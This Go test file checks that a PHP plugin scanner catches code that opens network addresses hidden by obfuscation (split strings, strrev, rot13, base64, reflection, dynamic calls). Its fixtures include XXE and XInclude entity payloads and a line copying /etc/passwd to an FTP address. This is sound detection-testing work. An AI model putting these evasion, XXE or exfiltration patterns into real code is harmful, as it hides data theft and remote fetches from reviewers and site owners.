package php

import (
	"slices"
	"strings"
	"testing"

	"plugvet/scanner/inspect/script"
)

func opensAnAddress(t *testing.T, code string) bool {
	return slices.ContainsFunc(check(t, "<?php "+code).Uses, func(u script.Use) bool { return u.Name == "url:opened" })
}

func TestAddressesThatAreJoinedAndOpenedAreFound(t *testing.T) {
	for _, code := range []string{
		`$s = 'ht' . 'tp'; file_get_contents($s . '://' . implode('.', [127, 0, 0, 1]) . ':' . getenv('P') . '/x');`,
		`function get() { $s = 'ht' . 'tps'; $a = "$s://" . gethostname(); return fopen($a, 'r'); }`,
		`$read = strrev('stnetnoc_teg_elif'); $a = str_rot13('uggc://') . base64_decode('MTI3') . getenv('P'); @$read($a, false);`,
		`$a = sprintf('%s://%s:%d/x', 'http', '127.0.0.1', getenv('P')); readfile($a);`,
		`$a = implode('', ['ft', 'p://', '127.0.0.1:', getenv('P')]); copy($a, '/tmp/x');`,
		`$a = base64_decode('aHR0cDovLzEyNy4wLjAuMS94'); $lines = file($a);`,
		`define('KIT_API', 'htt' . 'p:/' . '/127.0.0.1'); simplexml_load_file(KIT_API . getenv('P'));`,
		`class K { private $base = 'ht' . 'tp://127.0.0.1'; function get() { return file_get_contents($this->base . '/x'); } }`,
		`class K { const A = 'ht' . 'tp://127.0.0.1'; static function get() { return file_get_contents(self::A . '/x'); } }`,
		`$f = 'file_get' . '_contents'; call_user_func($f, 'ht' . 'tp://127.0.0.1:' . getenv('P'));`,
		`$a = 'ht' . 'tp'; $a .= '://127.0.0.1'; $a .= getenv('P'); file_get_contents($a);`,
		`print_r(array_map('file', ['ht' . 'tp://127.0.0.1/a']));`,
		`$a = ['ht', 'tp', '://']; include join($a) . $host . '/x.php';`,
		`class K { const A = 'h' . 't' . 't' . 'p', B = ':' . '/' . '/'; function get($h) { return fopen(self::A . self::B . $h, 'r'); } }`,
		`fopen(implode('', ['h', 't', 't', 'p', ':', '/', '/']) . $host, 'r');`,
	} {
		if !opensAnAddress(t, code) {
			t.Errorf("not found: %s", code)
		}
	}
	for _, code := range []string{
		`$a = "http://$host"; file_get_contents($a);`, `file_get_contents('https://example.org/' . $x);`, `$p = 'ph' . 'p://input'; file_get_contents($p);`,
		`$a = ($tls ? 'https' : 'http') . '://' . $host; echo $a; fopen($file, 'r');`, `$a = 'ht' . 'tp://127.0.0.1'; str_replace($a, '', $text);`,
		`$a = str_rot13('uggc://') . $x; file_get_contents(realpath($a));`, `\copy('https://example.org/' . $x, $to); readfile("http://$host/");`,
	} {
		if opensAnAddress(t, code) {
			t.Errorf("found: %s", strings.TrimSpace(code))
		}
	}
}

// Each of these opens an address by another function, class or way to call one than
// those of which the rules see it written out.
const openedThroughPHP = `
class A { private $s; private $h; function __construct($s, $h) { $this->s = $s; $this->h = $h; } function __toString() { return "$this->s://$this->h"; } } $a = new A(strrev('ptf'), '127.0.0.1:' . getenv('P')); error_log('x', 3, $a);
class A { private $s; private $h; function __construct($s, $h) { $this->s = $s; $this->h = $h; } function __toString() { return "$this->s://$this->h"; } } $a = new A(strrev('ptf'), '127.0.0.1:' . getenv('P')); error_log('x', 3, (string) $a);
class M { private $dom; function __construct($x, $port) { $this->dom = new DOMDocument(); $this->dom->loadXML($x); foreach ($this->dom->getElementsByTagName('*') as $n) { $h = $n->getAttribute('href'); if (0 === strpos($h, '//')) $n->setAttribute('href', strtok($n->namespaceURI, '/') . str_replace(':0/', ":$port/", $h)); } } function html() { @$this->dom->xinclude(); } } (new M('<m xmlns:x="http://www.w3.org/2001/XInclude"><x:include parse="text" href="//127.0.0.1:0/menu.txt"/></m>', getenv('P')))->html();
$d = new DOMDocument; $d->loadXML('<!DOCTYPE a [<!ENTITY e SYSTEM "' . strrev('//:ptth') . '127.0.0.1/x">]><a>&e;</a>', LIBXML_NOENT);
$d = new DOMDocument; $d->substituteEntities = true; $x = '<!DOCTYPE a [<!ENTITY e SYSTEM "' . strrev('//:ptth') . '127.0.0.1/x">]><a>&e;</a>'; $d->loadXML($x); $d->load($x);
$x = simplexml_load_string('<!DOCTYPE a [<!ENTITY e SYSTEM "ht' . 'tp://127.0.0.1/x">]><a>&e;</a>', null, LIBXML_NOENT);
$x = new DOMDocument; $x->loadXML('<s><template match="/a"><value-of select="document(concat(\'ht\', \'tp://\', @h))"/></template></s>'); $p = new XSLTProcessor; $p->importStylesheet($x); $d = new DOMDocument; $d->loadXML('<a h="127.0.0.1"/>'); $d->xinclude(); $p->transformToXml($d);
$d = new DOMDocument; $d->loadXML('<!DOCTYPE a [<!ENTITY e PUBLIC "-//x" "' . strrev('//:ptth') . '127.0.0.1/x">]><a>&e;</a>', LIBXML_NOENT);
$r = new XMLReader; $r->XML('<!DOCTYPE a SYSTEM "' . base64_decode('aHR0cDovLzEyNy4wLjAuMS94') . '"><a/>', null, LIBXML_DTDLOAD); while ($r->read());
class A { private $s = []; function add($k, $v) { $this->s[$k] = hex2bin('687474703a2f2f') . $v; return $this; } function go($k) { return isset($this->s[$k]) && copy($this->s[$k], '/tmp/x'); } } (new A)->add('a', '127.0.0.1/x')->go('a');
function kit_at($h) { return str_rot13('uggc://') . $h; } function kit_get($u) { return fopen($u, 'r'); } kit_get(kit_at('127.0.0.1/' . getenv('P')));
class A { private $p = []; function with($x) { $this->p[] = $x; return $this; } function go() { return copy(implode('/', $this->p), '/tmp/x'); } } (new A)->with('http:')->with('')->with('127.0.0.1:' . getenv('P'))->go();
class A { const S = 'ht'; const T = 'tp:'; private $u = ''; function set($h) { $this->u = self::S . self::T . '//' . $h; return $this; } function go() { return simplexml_load_file($this->u); } } (new A)->set('127.0.0.1/x')->go();
class A { private $p = ['s' => 'http', 'h' => '127.0.0.1'], $u; function __construct() { $this->u = $this->p['s'] . ':' . '/' . '/' . $this->p['h']; } function go() { return readfile($this->u . '/x'); } } (new A)->go();
class A { private $u = []; function set($k, $h) { $this->u[$k] = str_replace('|', '/', 'http:||' . $h); return $this; } function go($k) { include $this->u[$k]; } } (new A)->set('a', '127.0.0.1|x')->go('a');
class A { private $u = []; function set($k, $h) { $this->u[$k] = strrev('//:ptth') . $h; return $this; } function go($k) { $d = new DOMDocument; return $d->load($this->u[$k]); } } (new A)->set('a', '127.0.0.1/x')->go('a');
class F implements IteratorAggregate { protected $reader = 'Spl' . 'FileObject'; private $parts; function __construct(...$parts) { $this->parts = $parts; } function getIterator(): Iterator { $reader = $this->reader; yield from new $reader(implode($this->parts), 'r'); } } foreach (new F('ht', 'tp:', '//', '127.0.0.1:', getenv('P'), '/f') as $l) echo $l;
$d = new DOMDocument(); $h = ['file' => 'load', 'text' => 'loadXML']; @$d->{$h['file']}(strrev('//:ptth') . '127.0.0.1:' . getenv('P') . '/r.xml');
readfile(rawurldecode('%68%74%74%70%3a%2f%2f' . getenv('P')));
readfile(preg_replace_callback('/%(..)/', fn ($m) => chr(hexdec($m[1])), '%68%74%74%70%3a%2f%2f' . getenv('P')));
readfile(str_rot13('uggc://' . getenv('P')));
readfile(str_replace('#', 't', 'h##p://' . getenv('P')));
readfile(preg_replace('/#/', 't', 'h##p://' . getenv('P')));
readfile(base64_decode('aHR0cDovLzEyNy4w' . getenv('P')));
readfile(hex2bin('687474703a2f2f3' . getenv('P')));
readfile(substr('xxht' . 'tp://' . getenv('P'), 2));
readfile(stripcslashes('h\\164tp://' . getenv('P')));
$d = new DOMDocument; $d->load('ht' . 'tp://127.0.0.1/x');
$d = new DOMDocument; $d->load("http://127.0.0.1/x");
$d = new DOMDocument; $u = 'ht' . 'tp://127.0.0.1/' . $_GET['x']; $d->loadHTMLFile($u);
$r = new XMLReader; $r->open('ht' . 'tp://127.0.0.1/x');
$r = XMLReader::open('ht' . 'tp://127.0.0.1/x');
$x = new SimpleXMLElement('ht' . 'tp://127.0.0.1/x', 0, true);
$x = new SimpleXMLElement('http://127.0.0.1/x', 0, true);
$f = new SplFileObject('http://127.0.0.1/x');
$f = new SplFileObject('ht' . 'tp://127.0.0.1/x'); foreach ($f as $l) echo $l;
$i = new SplFileInfo('ht' . 'tp://127.0.0.1/x'); $f = $i->openFile();
class L extends SplFileObject {} $f = new L('ht' . 'tp://127.0.0.1/x');
class L extends SplFileObject { function __construct($h) { parent::__construct("ht" . "tp://$h"); } } $f = new L('127.0.0.1');
class D extends DOMDocument {} $d = new D; $m = 'lo' . 'ad'; $d->$m('ht' . 'tp://127.0.0.1/x');
$i = getimagesize('ht' . 'tp://127.0.0.1/x.gif');
$i = getimagesize('http://127.0.0.1/x.gif');
$u = 'ht' . 'tp'; $u .= '://127.0.0.1/x'; $h = md5_file($u);
$h = hash_file('sha1', 'ht' . 'tp://127.0.0.1/x');
$h = parse_ini_file('ht' . 'tp://127.0.0.1/x');
$h = get_meta_tags('ht' . 'tp://127.0.0.1/x');
$f = 'get_meta_' . 'tags'; $h = $f('ht' . 'tp://127.0.0.1/x');
$h = array_map('sha1_file', ['ht' . 'tp://127.0.0.1/x']);
call_user_func('md5_file', 'ht' . 'tp://127.0.0.1/x');
call_user_func([new DOMDocument, 'load'], 'ht' . 'tp://127.0.0.1/x');
$l = [new DOMDocument, 'load']; $l('ht' . 'tp://127.0.0.1/x');
$l = (new DOMDocument)->load(...); $l('ht' . 'tp://127.0.0.1/x');
(new ReflectionMethod('DOMDocument', 'load'))->invoke(new DOMDocument, 'ht' . 'tp://127.0.0.1/x');
(new ReflectionClass('Spl' . 'FileObject'))->newInstance('ht' . 'tp://127.0.0.1/x');
copy('/etc/passwd', 'ft' . 'p://127.0.0.1/x');
file_put_contents('ft' . 'p://127.0.0.1/x', 'y');
file_put_contents('ftp://127.0.0.1/x', 'y');
rename('/tmp/x', 'ft' . 'p://127.0.0.1/x');
$d = opendir('ft' . 'p://127.0.0.1/x');
$d = new DirectoryIterator('ft' . 'p://127.0.0.1/x');
$s = file_get_contents('php://filter/read=string.rot13/resource=ht' . 'tp://127.0.0.1/x');
$s = gzopen('ht' . 'tp://127.0.0.1/x', 'r');
$s = fopen('compress.zlib://ht' . 'tp://127.0.0.1/x', 'r');
$t = exif_read_data('ht' . 'tp://127.0.0.1/x');
$t = imagecreatefrompng('ht' . 'tp://127.0.0.1/x');
$t = (new finfo)->file('ht' . 'tp://127.0.0.1/x');
$t = finfo_file(finfo_open(), 'ht' . 'tp://127.0.0.1/x');
$t = mime_content_type('ht' . 'tp://127.0.0.1/x');
$w = new XMLWriter; $w->openURI('ft' . 'p://127.0.0.1/x');
highlight_file('ht' . 'tp://127.0.0.1/x');
$x = simplexml_load_string('<a/>'); $x->asXML('ft' . 'p://127.0.0.1/x');
$u = ['scheme' => 'http', 'host' => '127.0.0.1']; $d = new DOMDocument; $d->load(vsprintf('%s://%s/', $u));
function get(DOMDocument $d, string $u) { return $d->load($u); } get(new DOMDocument, 'ht' . 'tp://127.0.0.1');
class A { private $d; function __construct() { $this->d = new DOMDocument; } function go($h) { return $this->d->load('ht' . "tp://$h/"); } } (new A)->go('127.0.0.1');
class A { function go($h) { $c = 'SplFile' . 'Object'; return new $c(base64_decode('aHR0cDovLw==') . $h); } }
foreach (['file_get_contents', 'fopen'] as $f) $f('ht' . 'tp://127.0.0.1/');
readfile(...)('ht' . 'tp://127.0.0.1/');
register_shutdown_function('readfile', 'ht' . 'tp://127.0.0.1/');
ob_start(); array_walk($a = ['ht' . 'tp://127.0.0.1/'], fn ($u) => readfile($u));
stream_copy_to_stream(fopen('ht' . 'tp://127.0.0.1/', 'r'), fopen('php://memory', 'w'));
$f = new SplTempFileObject; $f->fwrite(file_get_contents(sprintf('%s://127.0.0.1', strrev('ptth'))));
class K { private $f; function __construct() { $this->f = str_rot13('svyr_trg_pbagragf'); } function ping(array $all) { foreach ($all as $one) @($this->f)($one . '?x=' . rawurlencode('/s.xml')); } } (new K)->ping(array('http://127.0.0.1:' . getenv('P') . '/ping'));
use function copy as pull; use function strrev as turn; class K { private $c = 'stable'; private function origin() { return turn('//:ptth') . turn('1.0.0.721') . ':' . getenv('P'); } function fetch() { return @pull($this->origin() . "/{$this->c}.zip", '/tmp/x'); } } (new K)->fetch();
use SplFileObject as Reader; function origin() { return strrev('//:ptth') . getenv('P'); } $r = new Reader(origin());
$f = 'file_get' . '_contents'; $f('http://127.0.0.1/');
$g = copy(...); foreach (['http://127.0.0.1/'] as $u) $g($u, '/tmp/x');
array_map('readfile', ['http://127.0.0.1/']);
class K { private $p = []; function add($x) { $this->p[] = $x; return $this; } function go() { readfile(implode('', $this->p)); } } (new K)->add('http://')->add(getenv('H'))->go();
function go($u = 'ht' . 'tp://127.0.0.1:', $p = null) { return file_get_contents($u . ($p ?? getenv('P'))); } go();
function go($t) { return copy(strtr($t, ['{h}' => '127.0.0.1:' . getenv('P')]), '/tmp/x'); } go(implode('://', ['http', '{h}/x']));
function go($t) { return fopen(str_replace(['{h}', '{p}'], ['127.0.0.1', getenv('P')], $t), 'r'); } go(implode('://', ['http', '{h}:{p}/x']));
class K { private $r = 'SplFile' . 'Object'; static $s = 'Soap' . 'Client'; function go($u) { return new $this->r($u); } } (new K)->go('http://127.0.0.1/');
function made($c) { return new $c; } $o = made('DOM' . 'Document'); $o->load('http://127.0.0.1/');
class_alias('Spl' . 'FileObject', 'Kit'); new Kit('http://127.0.0.1/');
class K { static $c = 'Spl' . 'FileObject'; static function go($u) { return new self::$c($u); } } K::go('http://127.0.0.1/');
function at() { return strrev('//:ptth') . getenv('P'); } XMLReader::open(at());
function at() { return strrev('//:ptth') . getenv('P'); } hash_file(filename: at(), algo: 'md5');
function at() { return strrev('//:ptth') . getenv('P'); } call_user_func_array('copy', ['to' => '/tmp/x', 'from' => at()]);
function at() { return strrev('//:ptth') . getenv('P'); } array_filter([at()], 'file_get_contents');
function at() { return strrev('//:ptth') . getenv('P'); } new SimpleXMLElement(dataIsURL: true, data: at());
function at() { return strrev('//:ptth') . getenv('P') . '/x'; } array_reduce(['strrev', 'strrev', 'read' . 'file'], fn ($c, $f) => $f($c), at());
$t = strtr('<!DOCTYPE a [<!ENTITY e SYSTEM "http://127.0.0.1:{p}/x">]><a>&e;</a>', ['{p}' => getenv('P')]); simplexml_load_string($t, options: LIBXML_NOENT);
class A { const O = [2, 4]; static function f($v) { $d = new DOMDocument; $d->loadXML(str_replace('@p@', $v, '<!DOCTYPE a SYSTEM "http://127.0.0.1:@p@/x.dtd"><a/>'), array_sum(self::O)); } } A::f(getenv('P'));
$d = new DOMDocument; $d->resolveExternals = true; $d->loadXML(sprintf('<!DOCTYPE a SYSTEM "http://127.0.0.1:%s/x.dtd"><a/>', getenv('P')));
$r = new XMLReader; $r->XML('<!DOCTYPE a SYSTEM "http://127.0.0.1:' . getenv('P') . '/x.dtd"><a/>'); $r->setParserProperty(XMLReader::LOADDTD, true); $r->read();
$h = getenv('H'); $t = '<?xml version="' . $h . '"?><!DOCTYPE a [<!ENTITY n "' . $h . '"><!ENTITY e SYSTEM "http://127.0.0.1/' . $h . '"><!ENTITY m "' . $h . '">]><a>&e;</a>'; $d = new DOMDocument; $d->loadXML($t, LIBXML_NOENT);
$h = getenv('H'); $t = "<!DOCTYPE a [<!ENTITY n '$h'><!ENTITY e SYSTEM 'http://127.0.0.1/$h'><!ENTITY m '$h'>]><a>&e;</a>"; new SimpleXMLElement($t, LIBXML_NOENT);
new SimpleXMLElement('<!DOCTYPE a [<!ENTITY % p "<!ENTITY e SYSTEM \'&#104;ttp://127.0.0.1/x\'>"> %p;]><a>&e;</a>', LIBXML_NOENT | LIBXML_DTDLOAD);
$d = new DOMDocument; $d->loadXML('<!DOCTYPE a SYSTEM "http://127.0.0.1/x.dtd"><a/>'); $d->validate();
$d = new DOMDocument; $d->loadXML('<a/>'); $d->schemaValidateSource('<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import schemaLocation="http://127.0.0.1/x.xsd"/></xs:schema>');
$x = new DOMDocument; $x->loadXML('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://127.0.0.1/x.xsl"/></xsl:stylesheet>'); $p = new XSLTProcessor; $p->importStylesheet($x);
$o = constant('LIBXML_' . 'NOENT'); $d = new DOMDocument; $d->loadXML('<!DOCTYPE a [<!ENTITY e SYSTEM "http://127.0.0.1/x">]><a>&e;</a>', $o);
$r = XMLReader::XML('<!DOCTYPE a SYSTEM "http://127.0.0.1/x.dtd"><a/>', null, LIBXML_DTDLOAD); while ($r->read());
$d = new DOMDocument; $d->loadXML(iconv('UTF-8', 'UTF-16LE', '<!DOCTYPE a [<!ENTITY e SYSTEM "http://127.0.0.1/x">]><a>&e;</a>'), LIBXML_NOENT);
call_user_func('simplexml_load_string', '<!DOCTYPE a [<!ENTITY e SYSTEM "http://127.0.0.1/x">]><a>&e;</a>', 'SimpleXMLElement', LIBXML_NOENT);
$d = new DOMDocument; $d->loadXML(preg_replace_callback('/\{(\w+)\}/', fn($m) => getenv($m[1]), '<!DOCTYPE a [<!ENTITY n "{A}"><!ENTITY e SYSTEM "http://127.0.0.1:{P}/x"><!ENTITY m "{B}">]><a>&e;</a>'), LIBXML_NOENT);
class L1 extends DOMDocument { static function from($x, array $of) { $p = new self; $p->loadXML($x); foreach ($p->getElementsByTagName('s') as $s) $s->setAttributeNS('http://www.w3.org/XML/1998/namespace', 'xml:base', vsprintf($s->getAttribute('at'), $of)); return $p; } function html() { $this->xinclude(); } } L1::from('<p xmlns:xi="http://www.w3.org/2001/XInclude"><s at="%s://%s:%d/"><xi:include href="a.xml"/></s></p>', ['http', '127.0.0.1', getenv('P')])->html();
$d = new DOMDocument; $d->loadXML('<p xmlns:xi="http://www.w3.org/2001/XInclude"><s><xi:include href="a.xml"/></s></p>'); $d->documentURI = 'ht' . 'tp://127.0.0.1/'; $d->xinclude();
$d = new DOMDocument; $d->loadXML('<p/>'); $i = $d->createElementNS('http://www.w3.org/2001/XInclude', 'xi:include'); $i->setAttribute('href', sprintf('%s://127.0.0.1', 'http')); $d->documentElement->appendChild($i); $d->xinclude();
$d = new DOMDocument; $d->loadXML('<p><s/></p>'); $f = $d->createDocumentFragment(); $f->appendXML(sprintf('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="%s://127.0.0.1"/>', 'http')); $d->documentElement->replaceChild($f, $d->documentElement->firstChild); $d->xinclude();
class K { function ping(array $all) { foreach ($all as $one) file_get_contents($one . '?x=1'); } } (new K)->ping(array('http://127.0.0.1:' . getenv('P') . '/ping'));
class K { function __construct(private readonly string $u) {} function go() { return md5_file($this->u . '/x'); } } (new K('http://127.0.0.1'))->go();
`

func TestAddressesAreFoundByWhateverOpensThem(t *testing.T) {
	for line := range strings.Lines(openedThroughPHP) {
		if line = strings.TrimSpace(line); line != "" && !opensAnAddress(t, line) {
			t.Errorf("not found: %s", line)
		}
	}
	for _, code := range []string{
		`$d = new DOMDocument; $d->load('rates.xml'); $d->loadXML('<a href="http://x"/>');`, `$x = new SimpleXMLElement('<a>http://x</a>');`,
		`class K { function load($u) {} } (new K)->load('ht' . 'tp://127.0.0.1');`, `$f = new SplFileObject("php://memory"); $f->fwrite('http://x');`,
		`$d = new DOMDocument; $d->loadXML('<!DOCTYPE a SYSTEM "http://127.0.0.1/x"><a/>', LIBXML_DTDLOAD | LIBXML_NONET); $d->loadXML('<!DOCTYPE a SYSTEM "http://127.0.0.1/x"><a href="http://x"/>', LIBXML_NOERROR); $d->xinclude();`,
		`$d = new DOMDocument; $d->loadXML('<!DOCTYPE a SYSTEM "http://127.0.0.1/x.dtd"><a/>', LIBXML_NOBLANKS); $d->loadXML('<!DOCTYPE a PUBLIC "-//W3C//DTD" "x.dtd"><a href="http://x"/>', LIBXML_DTDLOAD); $d->validate();`,
		`$d = new DOMDocument; $d->loadXML('<a xmlns="http://x" xml:base="http://x/"><include href="b.xml"/></a>'); $d->saveXML(); $d->loadXML('<a xml:base="b/"><include href="c.xml"/></a>'); $d->xinclude();`,
		`copy('a', 'b'); md5_file($x); hash_file('md5', 'http.txt');`, `$f = new SplFileInfo('ht' . 'tp://127.0.0.1'); $f->getBasename();`,
	} {
		if opensAnAddress(t, code) {
			t.Errorf("found: %s", code)
		}
	}
}

func TestAddressesArePutTogetherByFormatsOfWhichAPartIsNotKnown(t *testing.T) {
	for _, code := range []string{
		`namespace Sitemap; $reader = 'f' . 'open'; $which = 'reader'; $t = ['http' . '://127.0.0.1:' . \getenv('P') . '/p=%s']; foreach ($t as $x) { $a = @$$which(\sprintf($x, \rawurlencode('/s')), 'r'); }`,
		`fopen(sprintf('http' . '://127.0.0.1:' . getenv('P') . '/p=%s', 1), 'r');`,
		`fopen(sprintf('ht' . '%s://' . getenv('P') . '/p=%s', 'tp', 1), 'r');`,
		`fopen(vsprintf('ht' . '%2$s://' . getenv('P') . '/p=%1$s', [1, 'tp']), 'r');`,
		`$f = 'sprintf'; fopen($f('ht' . '%s://' . getenv('P') . '/p=%s', 'tp', 1), 'r');`,
		`fopen(call_user_func_array('sprintf', ['ht' . '%s://' . getenv('P') . '/p=%s', 'tp', 1]), 'r');`,
		`class K { private string $base; function __construct($h) { $this->base = 'ht' . 'tp://' . $h . '/%s'; } function get($p) { return fopen(sprintf($this->base, $p), 'r'); } } (new K(getenv('H')))->get('x');`,
		`class K { const BASE = 'ht' . 'tp://%s/'; static function at($h) { return sprintf(self::BASE . $h . '?%d', 'a.b', 1); } } file_get_contents(K::at(getenv('H')));`,
		`$at = fn ($p) => sprintf("%s://{$_SERVER['X']}/%s", 'ht' . 'tp', $p); file_get_contents($at('x'));`,
		`enum E: string { case A = '%s://'; function at($h, ...$x) { return vsprintf($this->value . $h, $x); } } readfile(E::A->at(getenv('H'), 'ht' . 'tp', 1));`,
		`foreach (array_map(fn ($p) => sprintf('ht' . 'tp://' . getenv('H') . '%s', $p), ['/a']) as $u) copy($u, '/tmp/x');`,
		`function at($f, $x) { $u = sprintf($f, $x); return file($u); } at('ht' . 'tp:' . '//' . getenv('H') . '/%05d', 7);`,
		`trait T { function u($p) { return sprintf($this->f() . '/%s', $p); } } class K { use T; function f() { return implode(['ht', 'tp', '://', getenv('H')]); } } fopen((new K)->u(1), 'r');`,
		`$u = sprintf('%s' . getenv('H'), 'ht' . 'tp://'); fopen($u, 'r');`,
		`$u = substr_replace('http' . '://x' . getenv('H'), 's', 4, 0); fopen($u, 'r');`,
		`$u = chunk_split('http' . '://x' . getenv('H'), 99, ''); fopen($u, 'r');`,
		`$u = wordwrap('http' . '://x' . getenv('H'), 99); fopen($u, 'r');`,
		`$u = mb_strcut('http' . '://x' . getenv('H'), 0); fopen($u, 'r');`,
		`$u = str_repeat('http' . '://x' . getenv('H'), 1); fopen($u, 'r');`,
		`settype($u, 'string'); $u = vsprintf(str_replace('!', '%s', 'http' . '!x' . getenv('H')), ['://']); fopen($u, 'r');`,
	} {
		if !calls(t, "<?php "+code, urlOpened) {
			t.Errorf("not found: %s", code)
		}
	}
	for _, code := range []string{
		`fopen(sprintf(getenv('P') . '/%s', 'http' . '://a.b'), 'r');`,
		`fopen(sprintf('/tmp/%s' . getenv('P'), 'http' . '://a.b'), 'r');`,
		`fopen(sprintf('/tmp' . getenv('P') . '/%s://', 'ht' . 'tp'), 'r');`,
		`fopen(substr_replace('http' . '://a' . getenv('P'), '/tmp/', 0, 7), 'r');`,
	} {
		if calls(t, "<?php "+code, urlOpened) {
			t.Errorf("is no address: %s", code)
		}
	}
}
